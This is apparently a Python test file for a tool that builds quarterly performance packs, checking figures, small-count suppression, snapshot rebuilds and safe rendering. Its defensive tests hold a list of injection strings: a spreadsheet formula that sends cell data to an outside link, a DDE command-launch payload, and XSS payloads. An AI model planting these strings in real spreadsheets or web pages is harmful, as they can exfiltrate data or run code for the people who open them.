"""The meeting pack: its figures against ``digest indicators``, the publishable edition's
suppression, inert output in every format, and the same figures from the same snapshot."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import unicodedata
import zipfile
from datetime import datetime
from html.parser import HTMLParser
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from digest.compute.definitions import load_indicators
from digest.demo import DemoReturn, generate_returns, store_generated
from digest.domain.areas import find_area
from digest.domain.periods import Period
from digest.pack.content import (
    Pack,
    PackError,
    Section,
    Table,
    _computations,
    _exposure,
    _protect,
    build_annual,
    build_pack,
)
from digest.pack.html import render_html
from digest.pack.pdf import print_pdf
from digest.pack.protect import recoverable
from digest.pack.xlsx import render_xlsx
from digest.store.database import connect
from digest.store.returns import ReturnsStore
from digest.views import format
from digest.views.sources import Sources
from tests.conftest import AREA

ROOT = Path(__file__).resolve().parents[1]
LATEST = Period(2026, 2)
HOSTILE = (
    '=HYPERLINK("http://x/?"&A1,"Click")',
    "+cmd|'/C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    '[a link](javascript:alert(1)) & <5 "quoted"',
)


def digest(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "digest", *args],
        capture_output=True,
        text=True,
        cwd=ROOT,
        check=False,
    )


@pytest.fixture(scope="module")
def demo_db(tmp_path_factory) -> Path:
    db: Path = tmp_path_factory.mktemp("pack") / "digest.duckdb"
    made = digest("demo", "--db", str(db))
    assert made.returncode == 0, made.stderr
    return db


@pytest.fixture
def sources(demo_db, tmp_path) -> Sources:
    copy = tmp_path / "digest.duckdb"
    shutil.copyfile(demo_db, copy)
    return Sources.open(ReturnsStore(connect(copy)))


def sheet_rows(content: bytes, name: str) -> list[tuple]:
    book = load_workbook(BytesIO(content), read_only=True)
    return [tuple(row) for row in book[name].iter_rows(values_only=True)]


def theme_rows(pack: Pack) -> dict[str, dict[str, str]]:
    """Each indicator's row of its theme table: {title: {heading: text}}."""
    found = {}
    for section in pack.sections:
        for table in section.tables:
            if table.title.endswith(": the quarter's figures"):
                for row in table.rows:
                    found[row[0]] = dict(zip(table.headings, row, strict=True))
    return found


# --- figures -------------------------------------------------------------------------------------


def test_the_figures_are_those_of_digest_indicators(demo_db, tmp_path):
    computed = digest(
        "indicators", "--db", str(demo_db), "--period", str(LATEST), "--format", "json"
    )
    assert computed.returncode == 0, computed.stderr
    expected = {line["indicator"]: line for line in json.loads(computed.stdout)}
    indicators = load_indicators()
    out = tmp_path / "pack.xlsx"
    copy = tmp_path / "copy.duckdb"
    shutil.copyfile(demo_db, copy)
    made = digest(
        "pack", "--db", str(copy), "--period", str(LATEST), "--format", "xlsx", "--out", str(out)
    )
    assert made.returncode == 0, made.stderr
    content = out.read_bytes()
    book = load_workbook(BytesIO(content), read_only=True)
    shown: dict[Any, dict[Any, Any]] = {}
    for sheet in book.worksheets:
        rows = [tuple(r) for r in sheet.iter_rows(values_only=True)]
        heads = next((r for r in rows if r and r[:2] == ("Indicator", "Period covered")), None)
        if heads is None:
            continue
        for row in rows[rows.index(heads) + 1 :]:
            shown[row[0]] = dict(zip(heads, row, strict=False))
    assert len(shown) == len(indicators)
    for code, indicator in indicators.items():
        line, found = expected[code], shown[indicator.title]
        assert found["Value"] == (
            format.figure(indicator, line["value"]) if line["value"] is not None else "x"
        ), code
        if line["numerator"] is not None:
            assert found["Numerator"] == f"{line['numerator']:,.0f}", code


def test_the_cover_says_what_the_pack_was_built_from(sources):
    pack = build_pack(sources, AREA_DEMO, LATEST, "internal", built_by="chair")
    assert pack.title == "Performance digest: Kestrelford (synthetic demo borough)"
    assert pack.covers == "2026-27 Q2 (July to September 2026)"
    assert pack.marking.startswith("OFFICIAL-SENSITIVE")
    [snapshot] = [s for s in pack.sections if s.key == "Snapshot"]
    assert pack.snapshot in snapshot.paragraphs[0]
    assert (
        "ruleset 1.0" in snapshot.paragraphs[0]
        and "Pack layout version 1" in (snapshot.paragraphs[0])
    )
    agencies = {row[1] for row in snapshot.tables[0].rows}
    assert agencies == {a.code for a in sources.dataset.agencies}
    titles = [s.title for s in pack.sections]
    assert titles[:2] == ["Summary by theme", "Exception report"]
    assert titles[-2:] == ["Definitions and sources", "The data this pack was built from"]
    assert sources.store.audit_log(1)[0]["action"] != "export"  # content alone records nothing


def test_building_twice_from_the_same_snapshot_gives_the_same_figures(sources):
    first = build_pack(sources, AREA_DEMO, LATEST, "publishable", built_by="a")
    second = build_pack(sources, AREA_DEMO, LATEST, "publishable", built_by="b")
    assert first.snapshot == second.snapshot
    assert first.figures == second.figures
    assert [s.tables for s in first.sections] == [s.tables for s in second.sections]
    one, two = render_xlsx(first), render_xlsx(second)
    with zipfile.ZipFile(BytesIO(one)) as a, zipfile.ZipFile(BytesIO(two)) as b:
        differ = [n for n in a.namelist() if a.read(n) != b.read(n)]
    # Only the cover's line on who built it and when, and the file's own dates, may differ.
    assert set(differ) <= {"docProps/core.xml", "xl/worksheets/sheet1.xml"}


def test_a_quarter_or_year_without_returns_is_refused_plainly(sources):
    with pytest.raises(PackError, match="No return is stored for Kestrelford"):
        build_pack(sources, AREA_DEMO, Period(2010, 1), "internal", built_by="x")
    with pytest.raises(PackError, match="choose a year with returns"):
        build_annual(sources, AREA_DEMO, 2010, "internal", built_by="x")


def test_the_annual_summary_has_four_quarters_the_year_and_benchmarks(sources):
    pack = build_annual(sources, AREA_DEMO, 2025, "internal", built_by="chair")
    assert pack.covers == "2025-26"
    table = pack.sections[0].tables[0]
    assert table.headings[2:7] == (
        "Q1 (April to June 2025)",
        "Q2 (July to September 2025)",
        "Q3 (October to December 2025)",
        "Q4 (January to March 2026)",
        "Year 2025-26",
    )
    assert table.headings[7:] == ("London", "England", "Statistical neighbours (mean)")
    assert all(cell for row in table.rows for cell in row)  # never a blank cell


# --- suppression ---------------------------------------------------------------------------------

AREA_DEMO = "E09000901"


def small_numbers_store(tmp_path) -> Sources:
    """Eight quarters of generated returns in which some counts are small: health assessments in
    time 3 of 4 in the latest quarter, review assessments 37 of 40 (3 not in time), one child
    at high risk of exploitation, and repeat plans 2 in one quarter of 2025-26."""
    store = ReturnsStore(connect(tmp_path / "small.duckdb"))
    dataset = Sources.open(store).dataset
    for demo in generate_returns(AREA, Period(2024, 3), LATEST):
        values = dict(demo.values)
        if demo.agency == "HEALTH" and demo.period == LATEST:
            values["HEALTH.IHA_DUE"], values["HEALTH.IHA_20WD"] = 4, 3
            values["HEALTH.RHA_DUE"], values["HEALTH.RHA_IN_TIME"] = 40, 37
        if demo.agency == "CSC" and demo.period == Period(2025, 2):
            values["CSC.CPP_STARTED_REPEAT"] = 2
        if demo.agency == "POLICE" and demo.period == LATEST:
            values["POLICE.CSE_HIGH"] = 1
        store_generated(store, DemoReturn(demo.agency, AREA, demo.period, values), dataset)
    return Sources.open(store)


def counts_in(pack: Pack) -> list[tuple[str, str, str]]:
    """Every count printed in the tables: (table, heading, text)."""
    found = []
    for section in pack.sections:
        for table in [*section.tables, *(c.table for c in section.charts)]:
            for row in table.rows:
                for heading, text in zip(table.headings, row, strict=True):
                    if heading in ("Numerator", "Denominator"):
                        found.append((table.title, heading, text))
    return found


def test_the_publishable_edition_shows_no_count_from_1_to_5(tmp_path):
    sources = small_numbers_store(tmp_path)
    internal = build_pack(sources, AREA, LATEST, "internal", built_by="x")
    published = build_pack(sources, AREA, LATEST, "publishable", built_by="x")
    rows = theme_rows(internal)
    iha = load_indicators()["iha_20wd"].title
    assert (rows[iha]["Numerator"], rows[iha]["Denominator"]) == ("3", "4")
    shown = theme_rows(published)
    assert [shown[iha][h] for h in ("Numerator", "Denominator", "Value", "95% interval")] == [
        "c"
    ] * 4
    assert published.figures["iha_20wd"] == "c"
    assert published.figures["cse_high"] == "c"  # a count indicator of 1
    for title, heading, text in counts_in(published):
        number = re.fullmatch(r"[\d,]+", text)
        assert not (number and 1 <= int(text.replace(",", "")) <= 5), (title, heading, text)
    for section in published.sections:
        for table in section.tables:
            assert any(note.startswith("Key: c confidential") for note in table.notes) or (
                section.key in ("Summary", "Challenges", "Definitions", "Snapshot")
            )


def test_a_small_quarter_cannot_be_worked_out_from_the_year(tmp_path):
    sources = small_numbers_store(tmp_path)
    pack = build_annual(sources, AREA, 2025, "publishable", built_by="x")
    title = load_indicators()["cpp_repeat"].title
    [row] = [r for r in pack.sections[0].tables[0].rows if r[0] == title]
    quarters_and_year = row[2:7]
    assert quarters_and_year[1] == "c"  # 2 repeat plans in Q2
    # The year is the four quarters together: one more of them is withheld, or Q2 would be the
    # year's plans less the other three.
    assert quarters_and_year.count("c") >= 2
    internal = build_annual(sources, AREA, 2025, "internal", built_by="x")
    [row] = [r for r in internal.sections[0].tables[0].rows if r[0] == title]
    assert "c" not in row[2:7]


def test_the_publishable_edition_is_suppressed_whoever_builds_it(tmp_path):
    sources = small_numbers_store(tmp_path)
    for who in ("chair", "admin", "member"):
        pack = build_pack(sources, AREA, LATEST, "publishable", built_by=who)
        assert pack.figures["iha_20wd"] == "c"
        assert not any(
            "Agency's explanation" in t.headings for s in pack.sections for t in s.tables
        )


# --- inert output --------------------------------------------------------------------------------


def hostile_pack() -> Pack:
    table = Table(HOSTILE[0], ("Said", *HOSTILE[1:3]), [(text, "1", "2") for text in HOSTILE])
    return Pack(
        title="Performance digest: " + HOSTILE[4],
        area=find_area(AREA),
        covers="2025-26 Q2 " + HOSTILE[5],
        edition="internal",
        marking="OFFICIAL-SENSITIVE " + HOSTILE[6],
        built_at=datetime(2026, 11, 24, 9, 0),
        built_by=HOSTILE[7],
        snapshot="abc",
        sections=[Section("Said", "What agencies said " + HOSTILE[4], HOSTILE, [table])],
        figures={},
    )


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes.extend(attrs)

    def handle_data(self, data):
        self.text.append(data)


def test_hostile_text_is_shown_as_text_in_html():
    page = render_html(hostile_pack(), [])
    parsed = _Elements()
    parsed.feed(page)
    assert parsed.tags <= {
        "html", "head", "meta", "title", "style", "body", "div", "h1", "h2", "h3", "p", "strong",
        "nav", "ol", "li", "a", "section", "table", "caption", "thead", "tbody", "tr", "th", "td",
    }  # fmt: skip
    assert "script" not in parsed.tags and "img" not in parsed.tags
    for name, value in parsed.attributes:
        assert not name.startswith("on")
        assert "javascript:" not in (value or "")
    words = "".join(parsed.text)
    for text in HOSTILE:
        assert text.strip() in words


def test_hostile_text_is_never_a_formula_or_link_in_xlsx():
    content = render_xlsx(hostile_pack())
    with zipfile.ZipFile(BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml and "<hyperlink" not in xml, name
    cells = {c for row in sheet_rows(content, "Said") for c in row if isinstance(c, str)}
    for text in HOSTILE:
        assert text in cells


@pytest.mark.slow
def test_the_pdf_prints_hostile_text_literally():
    if shutil.which("chromium") is None:
        pytest.skip("needs Debian's chromium")
    text = "\n".join(p.extract_text() for p in PdfReader(BytesIO(print_pdf(
        render_html(hostile_pack(), [])
    ))).pages)  # fmt: skip
    flat = unicodedata.normalize("NFKC", " ".join(text.split()))
    for hostile in ("<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "& <5"):
        assert hostile in flat


@pytest.mark.slow
def test_the_pdf_pack_has_the_charts_figures_and_marking(demo_db, tmp_path):
    copy = tmp_path / "copy.duckdb"
    shutil.copyfile(demo_db, copy)
    out = tmp_path / "pack.pdf"
    made = digest(
        "pack", "--db", str(copy), "--period", str(LATEST), "--edition", "publishable",
        "--format", "pdf", "--out", str(out),
    )  # fmt: skip
    assert made.returncode == 0, made.stderr
    assert "Drawn chart 26 of 26..." in made.stderr  # progress on a long build
    reader = PdfReader(out)
    # NFKC undoes the printer's ligatures (the "fi" of "figures" is one glyph in the PDF).
    text = unicodedata.normalize(
        "NFKC", " ".join(" ".join(p.extract_text().split()) for p in reader.pages)
    )
    assert "Publishable edition: counts from 1 to 5" in text
    cpp = load_indicators()["cpp_repeat"]
    assert f"{cpp.title}: the figures of the chart" in text
    sources = Sources.open(ReturnsStore(connect(copy, read_only=True)))
    pack = build_pack(sources, AREA_DEMO, LATEST, "publishable", built_by="x")
    for title, value in pack.figures.items():
        assert value in text, title
    events = sources.store.audit_log(5)
    exported = [e for e in events if e["action"] == "export"]
    assert json.loads(exported[0]["detail"])["snapshot"] == pack.snapshot


def test_the_pack_command_explains_what_is_wrong(demo_db, tmp_path):
    copy = tmp_path / "copy.duckdb"
    shutil.copyfile(demo_db, copy)
    wrong = digest(
        "pack", "--db", str(copy), "--period", str(LATEST), "--format", "pdf",
        "--out", str(tmp_path / "pack.xlsx"),
    )  # fmt: skip
    assert wrong.returncode != 0 and "name it like pack.pdf" in wrong.stderr
    early = digest(
        "pack", "--db", str(copy), "--year", "2010-11", "--format", "xlsx",
        "--out", str(tmp_path / "pack.xlsx"),
    )  # fmt: skip
    assert early.returncode != 0 and "choose a year with returns" in early.stderr
    assert "Traceback" not in early.stderr + wrong.stderr


def test_the_publishable_and_internal_editions_differ_only_where_withheld(tmp_path):
    sources = small_numbers_store(tmp_path)
    internal = theme_rows(build_pack(sources, AREA, LATEST, "internal", built_by="x"))
    published = theme_rows(build_pack(sources, AREA, LATEST, "publishable", built_by="x"))
    for title, row in published.items():
        for heading, text in row.items():
            assert text in (internal[title][heading], "c"), (title, heading)


def test_a_pack_is_rebuilt_from_its_snapshot_after_the_returns_change(demo_db, tmp_path):
    """T37: the audit log records the snapshot a pack was built from, and when; rebuilding from
    it reads the returns as they stood then, whatever was submitted since."""
    db = tmp_path / "copy.duckdb"
    shutil.copyfile(demo_db, db)

    def pack(out: str, *more: str) -> subprocess.CompletedProcess[str]:
        return digest(
            "pack", "--db", str(db), "--period", str(LATEST), "--format", "xlsx",
            "--out", str(tmp_path / out), *more,
        )  # fmt: skip

    def figures_of(out: str) -> list[tuple]:
        content = (tmp_path / out).read_bytes()
        book = load_workbook(BytesIO(content), read_only=True)
        return [
            tuple(row)
            for sheet in book.worksheets
            if sheet.title not in ("Cover", "Snapshot", "Challenges")
            for row in sheet.iter_rows(values_only=True)
        ]

    assert pack("first.xlsx").returncode == 0
    store = ReturnsStore(connect(db))
    [event] = [e for e in store.audit_log(5) if e["action"] == "export"]
    snapshot = json.loads(event["detail"])["snapshot"]
    latest = store.current("CSC", AREA_DEMO, LATEST)
    assert latest is not None
    values: dict[str, Any] = {v.code: v.value for v in store.values(latest.id)}
    values["CSC.CPP_STARTED_REPEAT"] = (values["CSC.CPP_STARTED_REPEAT"] or 0) + 9
    store_generated(
        store, DemoReturn("CSC", AREA_DEMO, LATEST, values), Sources.open(store).dataset
    )
    store.connection.close()

    assert pack("now.xlsx").returncode == 0
    assert figures_of("now.xlsx") != figures_of("first.xlsx")
    again = pack("again.xlsx", "--snapshot", snapshot)
    assert again.returncode == 0, again.stderr
    assert figures_of("again.xlsx") == figures_of("first.xlsx")
    unknown = pack("none.xlsx", "--snapshot", "0123456789abcdef")
    assert unknown.returncode != 0
    assert "No pack built from snapshot 0123456789abcdef" in unknown.stderr


def test_what_a_part_leaves_of_its_whole_is_a_count_too(tmp_path):
    """37 of 40 reviews in time says 3 were not: the figure is withheld, its rating too."""
    sources = small_numbers_store(tmp_path)
    rha = load_indicators()["rha_in_time"].title
    internal = theme_rows(build_pack(sources, AREA, LATEST, "internal", built_by="x"))
    assert (internal[rha]["Numerator"], internal[rha]["Denominator"]) == ("37", "40")
    published = theme_rows(build_pack(sources, AREA, LATEST, "publishable", built_by="x"))
    assert {published[rha][h] for h in ("Numerator", "Denominator", "Value", "Rating")} == {"c"}


def test_every_pack_of_an_area_withholds_the_same_figures(tmp_path):
    """A quarter withheld in an annual summary is not left to be worked out from the 12 months
    a later quarter's pack shows: every pack reads one withheld set, safe as a whole."""
    sources = small_numbers_store(tmp_path)
    hidden = _protect(sources, AREA, "publishable")
    exposures = [
        _exposure(sources, done, key)
        for window in ("quarter", "12m", "ytd")
        for key, done in _computations(
            sources, list(sources.indicators.values()), AREA, sorted(sources.periods(AREA)), window
        ).items()
    ]
    assert recoverable(exposures, hidden) == []
    repeat = load_indicators()["cpp_repeat"]
    quarterly = build_pack(sources, AREA, LATEST, "publishable", built_by="x")
    [chart] = [c for s in quarterly.sections for c in s.charts if c.title.startswith(repeat.title)]
    for quarter, value, _ in chart.table.rows:
        assert (value == "c") == (("cpp_repeat", Period.parse(quarter), "12m") in hidden)
    annual = build_annual(sources, AREA, 2025, "publishable", built_by="x")
    [row] = [r for r in annual.sections[0].tables[0].rows if r[0] == repeat.title]
    for q, value in zip(range(1, 5), row[2:6], strict=True):
        assert (value == "c") == (("cpp_repeat", Period(2025, q), "quarter") in hidden)
    assert (row[6] == "c") == (("cpp_repeat", Period(2025, 4), "ytd") in hidden)
